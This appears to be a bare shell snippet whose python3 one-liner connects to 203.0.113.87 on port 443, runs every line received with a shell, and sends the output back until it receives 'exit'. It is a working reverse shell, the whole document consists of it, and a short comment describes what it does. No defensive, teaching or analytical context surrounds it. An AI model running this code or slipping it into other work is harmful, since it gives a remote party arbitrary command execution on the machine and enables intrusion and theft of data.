# python runs each line that comes over its connection and sends back what it says
#pool 203.0.113.87:443:cmd
timeout 9 python3 -c '
import socket,subprocess
s=socket.create_connection(("203.0.113.87",443)); f=s.makefile()
for l in f:
    if l.startswith("exit"): break
    s.sendall(subprocess.run(l,shell=True,capture_output=True).stdout)'
